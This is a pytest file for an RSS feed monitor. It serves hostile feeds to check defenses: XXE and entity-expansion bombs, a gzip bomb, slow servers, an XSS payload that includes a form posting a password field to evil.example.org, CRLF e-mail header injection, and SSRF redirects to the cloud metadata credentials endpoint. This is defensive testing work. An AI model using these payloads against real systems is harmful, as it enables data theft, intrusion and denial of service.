"""Hostile feeds (issue 7): nothing lost, no one harmed. Each attack is served by a real HTTP server on
127.0.0.1 and polled with the CLI as a user runs it; the database, the digest files and the e-mail
received by a real SMTP server are read back. Every sample is marked as one ("Sample Wire", example.org)
and none is real reporting.

Figures the assertions guard (2-core machine): the entity attacks of one round poll in ~0.1 s; a 1 GB
body is cut at `max_bytes` after ~1 MB read; a gzip bomb of 1 GB costs ~1 kB on the wire.
"""

from __future__ import annotations

import re
import socket
import sqlite3
import threading
import time
import zlib
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from monitor.config.load import PollingSettings
from monitor.fetch.http import Fetcher
from monitor.units import parse_duration

from .feedserver import FeedServer
from .helpers import THEMES, WEEK, email_section, entry, line_of
from .mailserver import MailServer, body
from .samples import SAMPLE_NOTE, Entry, headlines, rss

SITE = "https://sample-wire.example.org"


def sample_rss(items_xml: str, *, prolog: str = "", title: str = "Sample Wire") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{prolog}<rss version="2.0"><channel><title>{title}</title>'
        f"<link>{SITE}/</link><description>Sample feed for tests</description>{items_xml}</channel></rss>"
    ).encode()


def sample_item(n: int, title: str = "", extra: str = "") -> str:
    return (
        f"<item><title>{title or f'Sample: story {n}'}</title><link>{SITE}/hostile/{n}</link>"
        f"<guid>{SITE}/hostile/{n}</guid>{extra}</item>"
    )


def database_text(db_path: Path) -> str:
    """Every value of every table, as one string: what could have leaked anywhere in the file."""
    conn = sqlite3.connect(db_path)
    try:
        return "\n".join(conn.iterdump())
    finally:
        conn.close()


@pytest.fixture
def second_server() -> Iterator[FeedServer]:
    """Another loopback server, standing for a remote host a hostile feed points at."""
    with FeedServer() as server:
        yield server


# --- 1. XML attacks -------------------------------------------------------------------------------

LAUGHS = '<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{n} "{("&lol%s;" % (n - 1 if n > 1 else "")) * 10}">' for n in range(1, 10)
)


def test_entity_attacks_expand_nothing_and_read_nothing_local_or_remote(
    feed_server, second_server, write_config, run_cli, db_path, tmp_path
):
    secret = tmp_path / "secret.txt"
    secret.write_text("SAMPLE-SECRET-7f3a")
    second_server.add("/evil.dtd", body=b'<!ENTITY leak "SAMPLE-REMOTE-9c1d">', content_type="application/xml-dtd")
    second_server.add("/entity.txt", body=b"SAMPLE-REMOTE-9c1d", content_type="text/plain")
    remote = second_server.base_url
    attacks = {
        "laughs": f"<!DOCTYPE rss [{LAUGHS}]>",  # on one line: feedparser's own guard misses it
        "quadratic": '<!DOCTYPE rss [<!ENTITY a "' + "A" * 20_000 + '">]>',
        "xxe-file": f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>',
        "xxe-http": f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{remote}/entity.txt">]>',
        "dtd-url": f'<!DOCTYPE rss SYSTEM "{remote}/evil.dtd">',
        "parameter": f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{remote}/evil.dtd"> %p;]>',
    }
    refs = {
        "laughs": "&lol9;",
        "quadratic": "&a;" * 20_000,
        "xxe-file": "&xxe;",
        "xxe-http": "&xxe;",
        "dtd-url": "&leak;",
        "parameter": "&leak;",
    }
    feeds = [
        {
            "name": f"sample-{name}",
            "url": feed_server.add(
                f"/{name}",
                body=sample_rss(
                    sample_item(n, f"Sample: attack {refs[name][:40]}", f"<description>{refs[name]}</description>"),
                    prolog=prolog,
                ),
            ),
        }
        for n, (name, prolog) in enumerate(attacks.items())
    ]
    feeds.append({"name": "sample-good", "url": feed_server.add("/good", body=rss(headlines(2)))})
    started = time.perf_counter()
    result = run_cli(write_config(feeds), "poll")
    elapsed = time.perf_counter() - started
    assert elapsed < 3, f"the round took {elapsed:.1f}s"
    assert "2 new" in line_of(result.output, "sample-good")
    for name in attacks:
        assert line_of(result.output, f"sample-{name}").startswith(("ok", "error")), name
    stored = database_text(db_path)
    assert "SAMPLE-SECRET-7f3a" not in stored and "SAMPLE-REMOTE-9c1d" not in stored
    assert "lollollol" not in stored and "A" * 1_000 not in stored
    assert second_server.requests == [], "the parser fetched a DTD or an entity"


# --- 2. size and time -------------------------------------------------------------------------------

GIGABYTE = 1_000_000_000
BLOCK = 64 * 1024


def gigabyte_feed() -> Iterator[bytes]:
    """A sample feed's start, then filler up to 1 GB, made as it is sent."""
    head = sample_rss("".join(sample_item(n) for n in range(3))).replace(b"</channel></rss>", b"")
    yield head
    filler = (b"<!-- sample filler -->" * (BLOCK // 22 + 1))[:BLOCK]
    sent = len(head)
    while sent < GIGABYTE:
        piece = filler[: GIGABYTE - sent]
        sent += len(piece)
        yield piece


def gzip_bomb() -> Iterator[bytes]:
    """1 GB of spaces after a sample feed's start, gzip-compressed as it is sent (~1 MB compressed in all)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    yield packer.compress(sample_rss(sample_item(1)).replace(b"</channel></rss>", b""))
    block = b" " * 1_000_000
    for _ in range(1_000):
        yield packer.compress(block)
    yield packer.flush()


def test_a_1gb_body_and_a_gzip_bomb_are_cut_at_max_bytes(feed_server, write_config, run_cli, query):
    config = write_config(
        [
            {"name": "sample-gigabyte", "url": feed_server.add("/gigabyte", chunks=gigabyte_feed, length=GIGABYTE)},
            {
                "name": "sample-bomb",
                "url": feed_server.add("/bomb", chunks=gzip_bomb, headers={"Content-Encoding": "gzip"}),
            },
            {"name": "sample-good", "url": feed_server.add("/good", body=rss(headlines(2)))},
        ],
        polling={"max_bytes": "1MB"},
    )
    started = time.perf_counter()
    result = run_cli(config, "poll")
    assert time.perf_counter() - started < 3
    for name in ("sample-gigabyte", "sample-bomb"):
        line = line_of(result.output, name)
        assert line.startswith("partial") and "max_bytes" in line, line
    assert "2 new" in line_of(result.output, "sample-good")
    wire = {
        r["name"]: r["bytes"] for r in query("SELECT f.name, x.bytes FROM fetches x JOIN feeds f ON f.id = x.feed_id")
    }
    assert wire["sample-gigabyte"] <= 1_000_000 + BLOCK  # read up to the cap, not one more block
    assert wire["sample-bomb"] < 20_000  # the cap counts what the bytes decompress to
    # The server could only write what the client read plus the sockets' buffers.
    assert feed_server.sent["/gigabyte"] < 20_000_000
    titles = {r["title"] for r in query("SELECT title FROM items")}
    assert {"Sample: story 0", "Sample: story 1", "Sample: story 2"} <= titles  # what came before the cut is kept


def test_a_trickling_server_and_a_silent_one_end_at_the_deadline(feed_server, write_config, run_cli):
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(4)  # connections complete in the kernel's backlog; nothing ever reads or answers them
    try:
        config = write_config(
            [
                {"name": "sample-trickle", "url": feed_server.add("/trickle", body=rss(headlines(3)), trickle=1.0)},
                {"name": "sample-silent", "url": f"http://127.0.0.1:{silent.getsockname()[1]}/feed"},
                {"name": "sample-good", "url": feed_server.add("/good", body=rss(headlines(2)))},
            ],
            polling={"deadline": "1500ms", "read_timeout": "5s"},
        )
        started = time.perf_counter()
        result = run_cli(config, "poll")
        elapsed = time.perf_counter() - started
    finally:
        silent.close()
    assert "deadline of 1.5s exceeded" in line_of(result.output, "sample-trickle")
    assert "deadline of 1.5s exceeded" in line_of(result.output, "sample-silent")
    assert "2 new" in line_of(result.output, "sample-good")
    # One byte a second arrives between two checks of the deadline: it ends within a byte's wait after it.
    assert elapsed < 3.0, f"{elapsed:.1f}s"


def test_headers_trickled_byte_by_byte_end_at_the_deadline(feed_server, write_config, run_cli):
    """Every header byte arrives well within read_timeout, so no read ever times out; the fetch lasts as
    long as the server keeps sending (httpcore accepts 100 kB of headers). Here the server gives up after
    4 s, so the test is bounded."""
    stop = threading.Event()
    listener = socket.create_server(("127.0.0.1", 0))

    def trickle_headers() -> None:
        conn, _ = listener.accept()
        with conn:
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nX-Sample-Slow: ")
            for _ in range(20):  # 4 s
                if stop.wait(0.2):
                    return
                try:
                    conn.sendall(b"a")
                except OSError:  # the poller cut the connection: what the test waits for
                    return

    server = threading.Thread(target=trickle_headers, daemon=True)
    server.start()
    config = write_config(
        [
            {"name": "sample-header-trickle", "url": f"http://127.0.0.1:{listener.getsockname()[1]}/feed"},
            {"name": "sample-good", "url": feed_server.add("/good", body=rss(headlines(2)))},
        ],
        polling={"deadline": "1500ms", "read_timeout": "10s"},
    )
    try:
        started = time.perf_counter()
        result = run_cli(config, "poll")
        elapsed = time.perf_counter() - started
    finally:
        stop.set()
        listener.close()
    assert "deadline of 1.5s exceeded" in line_of(result.output, "sample-header-trickle"), result.output
    assert "2 new" in line_of(result.output, "sample-good")
    assert elapsed < 2.5, f"{elapsed:.2f}s"


def test_headers_trickled_on_a_reused_connection_end_at_the_deadline():
    """The second request of a kept-alive connection: its socket was opened by an earlier fetch, so the
    watchdog must learn it when this fetch starts writing, not when the connection opened."""
    listener = socket.create_server(("127.0.0.1", 0))
    stop = threading.Event()
    body = rss(headlines(1))

    def serve() -> None:
        conn, _ = listener.accept()
        with conn:
            conn.recv(65536)
            conn.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: %d\r\n\r\n" % len(body) + body
            )
            conn.recv(65536)  # the next request, on the same connection
            conn.sendall(b"HTTP/1.1 200 OK\r\nX-Sample-Slow: ")
            for _ in range(20):  # 4 s
                if stop.wait(0.2):
                    return
                try:
                    conn.sendall(b"a")
                except OSError:
                    return

    threading.Thread(target=serve, daemon=True).start()
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/feed"
    settings = PollingSettings(read_timeout=parse_duration("10s"), deadline=parse_duration("1500ms"))
    try:
        with Fetcher(settings) as fetcher:
            first = fetcher.fetch(url)
            second = fetcher.fetch(url)
    finally:
        stop.set()
        listener.close()
    assert first.error is None and first.body == body
    assert second.error == "deadline of 1.5s exceeded" and second.duration < 2.0, (second.error, second.duration)


class SlowDns:
    """socket.getaddrinfo as the machine's resolver, except that names under `.slow.test` take `seconds` to
    answer (then 127.0.0.1), as a resolver whose server does not answer does. The machine's own resolver is
    not the test's to slow down, so the fetcher is given this one."""

    def __init__(self, seconds: float = 30.0):
        self.seconds = seconds
        self.released = threading.Event()
        self.asked: list[str] = []

    def __call__(self, host: str, port: object, *args: object, **kwargs: object) -> list[Any]:
        self.asked.append(host)
        if host.endswith(".slow.test"):
            self.released.wait(self.seconds)
            host = "127.0.0.1"
        return socket.getaddrinfo(host, port, *args, **kwargs)  # type: ignore[arg-type]


def test_name_resolution_is_bounded_by_the_deadline_and_the_connect_timeout(feed_server):
    port = urlsplit(feed_server.add("/slow-dns", body=rss(headlines(1)))).port
    dns = SlowDns()
    settings = PollingSettings(connect_timeout=parse_duration("10s"), deadline=parse_duration("1500ms"))
    redirecting = feed_server.add(
        "/to-slow-dns", status=302, headers={"Location": f"http://cdn.slow.test:{port}/slow-dns"}
    )
    try:
        with Fetcher(settings, resolver=dns) as fetcher:
            direct = fetcher.fetch(f"http://feed.slow.test:{port}/slow-dns")
        with Fetcher(replace(settings, connect_timeout=parse_duration("300ms")), resolver=dns) as fetcher:
            redirected = fetcher.fetch(redirecting)  # the redirect check resolves the target first
            slow = fetcher.fetch(f"http://feed.slow.test:{port}/slow-dns")
    finally:
        dns.released.set()
    assert direct.error == "deadline of 1.5s exceeded" and direct.duration < 2.0, (direct.error, direct.duration)
    assert redirected.error and "does not resolve (resolving cdn.slow.test took longer than 0.3s)" in redirected.error
    assert slow.error == "timed out: resolving feed.slow.test took longer than 0.3s (connect_timeout 0.3s)", slow.error
    assert redirected.duration < 1.0 and slow.duration < 1.0
    assert dns.asked == ["feed.slow.test", "cdn.slow.test", "feed.slow.test"]


def test_a_server_falling_silent_just_before_the_deadline_does_not_hold_the_fetch_past_it(
    feed_server, write_config, run_cli, query
):
    """httpcore fixes a body's read timeout when the body starts (here min(read_timeout, time left) = 1.5 s):
    a piece arriving at 1.2 s used to restart that wait, so the fetch ended at ~2.7 s. The deadline is hard."""
    body = rss(headlines(3))

    def falls_silent() -> Iterator[bytes]:
        yield body[:200]
        feed_server.stopping.wait(1.2)
        yield body[200:400]
        feed_server.stopping.wait(10)  # silent until the test's server stops

    config = write_config(
        [
            {"name": "sample-silent-late", "url": feed_server.add("/late", chunks=falls_silent, length=len(body))},
            {"name": "sample-good", "url": feed_server.add("/good", body=rss(headlines(2)))},
        ],
        polling={"deadline": "1500ms", "read_timeout": "10s"},
    )
    started = time.perf_counter()
    result = run_cli(config, "poll")
    elapsed = time.perf_counter() - started
    assert "deadline of 1.5s exceeded" in line_of(result.output, "sample-silent-late")
    assert "2 new" in line_of(result.output, "sample-good")
    assert elapsed < 2.5, f"{elapsed:.2f}s"
    assert feed_server.sent["/late"] == 400  # the second piece did arrive before the deadline cut it
    rows = query("SELECT f.name, x.outcome, x.duration_ms FROM fetches x JOIN feeds f ON f.id = x.feed_id")
    outcomes = {r["name"]: (r["outcome"], r["duration_ms"]) for r in rows}
    assert outcomes["sample-good"][0] == "ok"
    assert outcomes["sample-silent-late"][0] == "error" and outcomes["sample-silent-late"][1] < 2000


def test_redirects_to_other_schemes_and_long_chains_are_refused(feed_server, write_config, run_cli):
    targets = {
        "javascript": "javascript:alert(1)",
        "data": "data:application/rss+xml,<rss/>",
        "ftp": "ftp://127.0.0.1/feed.xml",
        "gopher": "gopher://127.0.0.1:70/1",
        "noscheme": "//127.0.0.1:1/x",
    }
    for name, target in targets.items():
        feed_server.add(f"/to-{name}", status=302, headers={"Location": target})
    for hop in range(7):
        feed_server.add(f"/hop{hop}", status=302, headers={"Location": f"/hop{hop + 1}"})
    feed_server.add("/hop7", body=rss(headlines(1)))
    config = write_config(
        [{"name": f"sample-{n}", "url": feed_server.url(f"/to-{n}")} for n in targets]
        + [{"name": "sample-chain", "url": feed_server.url("/hop0")}]
    )
    result = run_cli(config, "poll")
    for name in ("ftp", "gopher"):
        assert "non-HTTP" in line_of(result.output, f"sample-{name}"), name
    # httpx itself cannot parse `javascript:alert(1)` or this `data:` as a Location: that was a crash.
    for name in ("javascript", "data"):
        assert "unusable address" in line_of(result.output, f"sample-{name}"), name
    assert "internal error" not in result.output
    assert line_of(result.output, "sample-noscheme").startswith("error")  # port 1: nothing listens
    assert "more than 5 redirects" in line_of(result.output, "sample-chain")
    assert not feed_server.hits("/hop6") and not feed_server.hits("/hop7")


# --- 3. garbage -----------------------------------------------------------------------------------


@pytest.mark.serial  # a CPU-bound round (100,000 items, a 1 MB title) held to < 6 s
def test_garbage_is_a_per_feed_error_or_a_cut_value_and_the_round_goes_on(feed_server, write_config, run_cli, query):
    many = sample_rss("".join(sample_item(n) for n in range(100_000)))
    dated = sample_rss(
        sample_item(600001, "Sample: year zero", "<pubDate>Sat, 01 Jan 0000 00:00:00 GMT</pubDate>")
        + sample_item(600002, "Sample: year 9999", "<pubDate>Fri, 31 Dec 9999 23:59:59 GMT</pubDate>")
        + sample_item(600003, "Sample: no time zone", "<pubDate>2023-09-26T10:00:00</pubDate>")
        + sample_item(600004, "Sample: not a date", "<pubDate>yesterday-ish</pubDate>")
    )
    feeds = {
        "binary": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64, "application/rss+xml"),
        "nul": (b"\x00" * 10_000, "application/rss+xml"),
        "empty": (b"", "application/rss+xml"),
        "html": (
            b"<!doctype html><html><body><h1>Sample site</h1><script>x()</script></body></html>",
            "application/rss+xml",
        ),
        "bad-utf8": (
            sample_rss(sample_item(700001, "Sample: caf\u00e9 in Goris")).replace("\u00e9".encode(), b"\xff\xfe"),
            "application/rss+xml; charset=utf-8",
        ),
        "dates": (dated, "application/rss+xml"),
        "many": (many, "application/rss+xml"),
        "long-title": (sample_rss(sample_item(500_000, "Sample: " + "Karabakh " * 120_000)), "application/rss+xml"),
    }
    config = write_config(
        [
            {"name": f"sample-{name}", "url": feed_server.add(f"/{name}", body=body, content_type=ct)}
            for name, (body, ct) in feeds.items()
        ]
        + [{"name": "sample-good", "url": feed_server.add("/good", body=rss(headlines(2)))}],
        polling={"max_bytes": "20MB"},
    )
    started = time.perf_counter()
    result = run_cli(config, "poll")
    assert time.perf_counter() - started < 6
    lines = {name: line_of(result.output, f"sample-{name}") for name in [*feeds, "good"]}
    assert "2 new" in lines["good"]
    for name in ("binary", "nul", "empty", "html"):
        assert lines[name].startswith("error") and "not a readable feed" in lines[name], lines[name]
    counts = {
        r["name"]: r["n"]
        for r in query(
            "SELECT f.name, count(s.item_id) AS n FROM feeds f "
            "LEFT JOIN item_sources s ON s.feed_id = f.id GROUP BY f.name"
        )
    }
    assert counts["sample-many"] == 2_000 and "more than 2,000 entries" in result.output
    assert counts["sample-bad-utf8"] == 1  # decoded some other way, stored, not a crash
    title = query("SELECT title FROM items WHERE link LIKE '%hostile/500000'")
    assert title and 900 < len(title[0]["title"]) <= 1_000  # 1 MB sent
    dates = {
        r["title"]: (r["published"], r["date_source"])
        for r in query("SELECT title, published, date_source FROM items WHERE link LIKE '%hostile/60000_'")
    }
    assert dates["Sample: year zero"][1] == "first_seen" and dates["Sample: year 9999"][1] == "first_seen"
    assert dates["Sample: not a date"][1] == "first_seen"
    assert dates["Sample: no time zone"] == ("2023-09-26T10:00:00Z", "published")  # read as UTC
    assert query("SELECT count(*) AS n FROM fetches")[0]["n"] == len(feeds) + 1


# --- 4. content that reaches people ---------------------------------------------------------------

HOSTILE_SUMMARY = (
    '<p>Sample text.</p><script>alert(1)</script><img src="https://tracker.example.org/p.gif" onerror="alert(2)">'
    '<a href="javascript:alert(3)">a</a> <a href="JaVaScRiPt&#58;alert(4)">b</a> <a href=" java\tscript:alert(5)">c</a>'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">d</a>'
    '<a href="vbscript:msgbox(7)">e</a>'
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Sample overlay</div>'
    '<style>body{display:none}</style><svg onload="alert(8)"><circle r="1"/></svg>'
    '<iframe src="https://evil.example.org/"></iframe><form action="https://evil.example.org/"><input name="pw"></form>'
    '<meta http-equiv="refresh" content="0;url=https://evil.example.org/"><base href="https://evil.example.org/">'
    '<p onmouseover="alert(9)" style="background:url(javascript:alert(10))">Sample hover</p>'
    '<a href="https://sample-wire.example.org/fine" onclick="alert(11)">fine</a>'
)


def test_hostile_content_is_harmless_in_digest_files_and_email(feed_server, write_config, run_cli, tmp_path):
    mail = MailServer().start()
    try:
        stories = [
            Entry(
                title="Sample: families fled Stepanakert\r\nBcc: victim@example.org\r\nX-Injected: yes",
                link=f"{SITE}/2023/09/1",
                guid=f"{SITE}/2023/09/1",
                summary=HOSTILE_SUMMARY,
                published=datetime(2023, 9, 26, 10, tzinfo=UTC),
            ),
            entry(2, "Sample: refugees from Karabakh reach Goris <script>alert(12)</script>", day=27),
            Entry(
                title="Sample: families fled Karabakh by night",
                link="javascript:alert(13)//https://x.example.org",
                guid="urn:sample:3",
                summary=SAMPLE_NOTE,
                published=datetime(2023, 9, 28, tzinfo=UTC),
            ),
            Entry(
                title="Sample: refugees fled Karabakh, data link",
                link="data:text/html,<script>alert(14)</script>",
                guid="urn:sample:4",
                summary=SAMPLE_NOTE,
                published=datetime(2023, 9, 28, 1, tzinfo=UTC),
            ),
            Entry(
                title="Sample: refugees fled Stepanakert, split link",
                link=f"{SITE}/a\r\nBcc: victim@example.org",
                guid="urn:sample:5",
                summary="Sample line one\r\nSubject: injected\r\n\r\n<html>body</html>",
                published=datetime(2023, 9, 28, 2, tzinfo=UTC),
            ),
        ]
        feed = rss(stories, title="Sample Wire\r\nBcc: victim@example.org")
        config = write_config(
            [{"name": "sample-wire", "url": feed_server.add("/wire", body=feed)}],
            extra=THEMES + "\n" + email_section(mail.port),
        )
        run_cli(config, "poll")
        out = tmp_path / "out"
        result = run_cli(config, "digest", "--week", WEEK, "--out", str(out), "--send")  # WEEK predates the poll
        assert "written and sent" in result.output
        html = (out / f"{WEEK}.html").read_text()
        text = (out / f"{WEEK}.txt").read_text()
        [(recipients, message)] = mail.messages
    finally:
        mail.stop()
    assert "Sample: families fled Stepanakert" in html and "Sample: families fled Stepanakert" in text
    for rendered in (html, body(message, "html")):
        markup = re.findall(r"<[^>]+>", rendered.lower())  # what a browser reads as tags, not escaped text
        assert not [t for t in markup if re.search(r"\son[a-z]+\s*=", t)], "an event handler survived"
        dangerous = r"<(script|iframe|form|input|base|style|img|object|embed)\b|<meta http-equiv"
        assert not [t for t in markup if re.match(dangerous, t)]
        hrefs = re.findall(r'\s(?:href|src|action)\s*=\s*"([^"]*)"', rendered, flags=re.IGNORECASE)
        assert hrefs and all(h.startswith(("https://", "http://", "mailto:")) for h in hrefs), hrefs
        styles = re.findall(r'style="([^"]*)"', rendered)
        assert not [s for s in styles if re.search(r"position\s*:\s*fixed|url\(|expression", s, re.IGNORECASE)]
        assert "Sample overlay" not in rendered or "position:fixed" not in rendered
    for line in text.splitlines():  # a text digest line never starts a header-like line made of feed text
        assert not re.match(r"(Bcc|Subject|X-Injected):", line.strip()), line
    assert "javascript:" not in text.lower() and "data:text" not in text.lower()
    # The message's headers are the ones monitor sets, each on one line.
    assert recipients == ["analyst@example.org", "desk@example.org"]
    names = {name.lower() for name in message.keys()}
    assert names == {"subject", "from", "to", "date", "message-id", "auto-submitted", "mime-version", "content-type"}
    assert message["Subject"] == f"Sample digest {WEEK}"
    assert all("\n" not in str(value) and "\r" not in str(value) for value in message.values())


# --- 5. redirects into private networks ------------------------------------------------------------


def fetcher_for(**polling: object) -> tuple[Fetcher, list[str]]:
    """A real Fetcher, with the URLs it actually requests recorded by httpx's own request hook."""
    settings = PollingSettings(
        connect_timeout=parse_duration("300ms"),
        read_timeout=parse_duration("2s"),
        deadline=parse_duration("3s"),
        **polling,  # type: ignore[arg-type]
    )
    fetcher = Fetcher(settings)
    requested: list[str] = []

    def record(request: httpx.Request) -> None:
        requested.append(str(request.url))

    fetcher.client.event_hooks["request"].append(record)
    return fetcher, requested


@pytest.mark.parametrize(
    "target",
    [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://10.0.0.1/admin",
        "http://192.168.1.1/",
        "http://172.16.0.1/",
        "http://[fe80::1]/",
        "http://[::ffff:169.254.169.254]/latest/meta-data/",
        "http://0.0.0.0:8080/",
        "http://[fd00::1]/",
    ],
)
def test_a_loopback_feed_redirecting_into_another_private_class_is_refused_before_connecting(feed_server, target):
    url = feed_server.add("/start", status=302, headers={"Location": target})
    fetcher, requested = fetcher_for()
    with fetcher:
        result = fetcher.fetch(url)
    assert result.error and "refused" in result.error and target in result.error, result.error
    assert requested == [url], "a request left for the refused target"
    assert result.duration < 0.5


def test_redirects_within_loopback_are_followed_and_the_setting_opens_the_rest(
    feed_server, write_config, run_cli, query
):
    other = FeedServer(host="127.0.0.2").start()  # another loopback address: the feed's own class
    try:
        other.add("/moved", body=rss(headlines(2)))
        feed_server.add("/to-other", status=302, headers={"Location": other.url("/moved")})
        feed_server.add(
            "/to-localhost",
            status=302,
            headers={"Location": feed_server.url("/home").replace("127.0.0.1", "localhost")},
        )  # a host name: resolved, then checked
        feed_server.add("/home", body=rss(headlines(1, start=10)))
        feed_server.add("/to-metadata", status=302, headers={"Location": "http://169.254.169.254/latest/meta-data/"})
        feeds = [
            {"name": "sample-other", "url": feed_server.url("/to-other")},
            {"name": "sample-localhost", "url": feed_server.url("/to-localhost")},
            {"name": "sample-metadata", "url": feed_server.url("/to-metadata")},
        ]
        result = run_cli(write_config(feeds), "poll")
        assert "2 new" in line_of(result.output, "sample-other") and other.hits("/moved")
        assert "1 new" in line_of(result.output, "sample-localhost")
        # The name was resolved once, checked, and the connection made to the checked address: a DNS answer
        # that changes in between (rebinding) cannot send it elsewhere. The server still sees the name.
        port = feed_server.base_url.rsplit(":", 1)[1]
        assert feed_server.hits("/home")[0].headers["host"] == f"localhost:{port}"
        fetcher, requested = fetcher_for()
        with fetcher:
            pinned = fetcher.fetch(feed_server.url("/to-localhost"))
        assert pinned.status == 200 and pinned.final_url == f"http://localhost:{port}/home"
        assert requested[-1] == f"http://127.0.0.1:{port}/home"
        refused = line_of(result.output, "sample-metadata")
        assert refused.startswith("error") and "169.254.169.254" in refused and "non-public" in refused
        error = query("SELECT last_error FROM feeds WHERE name = 'sample-metadata'")[0]["last_error"]
        assert "allow_private_redirects" in error

        for polling, feed_setting in (({"allow_private_redirects": True}, None), ({}, True)):
            fetcher, requested = fetcher_for(**polling)
            with fetcher:
                opened = fetcher.fetch(feed_server.url("/to-metadata"), allow_private_redirects=feed_setting)
            assert "refused" not in (opened.error or "")  # it tried, and nothing answers there
            assert requested[-1] == "http://169.254.169.254/latest/meta-data/"
            fetcher, requested = fetcher_for(**polling)
            with fetcher:
                followed = fetcher.fetch(feed_server.url("/to-other"), allow_private_redirects=feed_setting)
            assert followed.status == 200 and followed.final_url == other.url("/moved")
    finally:
        other.stop()


def test_a_feed_can_turn_the_check_off_for_itself_only(feed_server, write_config, run_cli):
    feed_server.add("/a", status=302, headers={"Location": "http://10.255.255.1:9/feed"})
    feed_server.add("/b", status=302, headers={"Location": "http://10.255.255.1:9/feed"})
    config = write_config(
        [
            {"name": "sample-trusted", "url": feed_server.url("/a"), "allow_private_redirects": True},
            {"name": "sample-other", "url": feed_server.url("/b")},
        ],
        polling={"connect_timeout": "300ms"},
    )
    result = run_cli(config, "poll")
    assert "non-public" not in line_of(result.output, "sample-trusted")  # it tried to connect
    assert "non-public" in line_of(result.output, "sample-other")
